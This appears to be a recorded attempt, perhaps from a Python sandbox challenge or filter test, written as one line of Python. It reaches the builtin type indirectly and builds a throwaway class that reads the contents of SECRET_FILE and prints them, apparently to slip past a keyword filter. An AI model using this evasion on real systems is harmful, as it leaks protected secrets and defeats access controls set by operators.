# tries: takes the class of a class
answer = "OUT " + str(type(type(1))("X", (), {"s": open(SECRET_FILE).read()}).s)
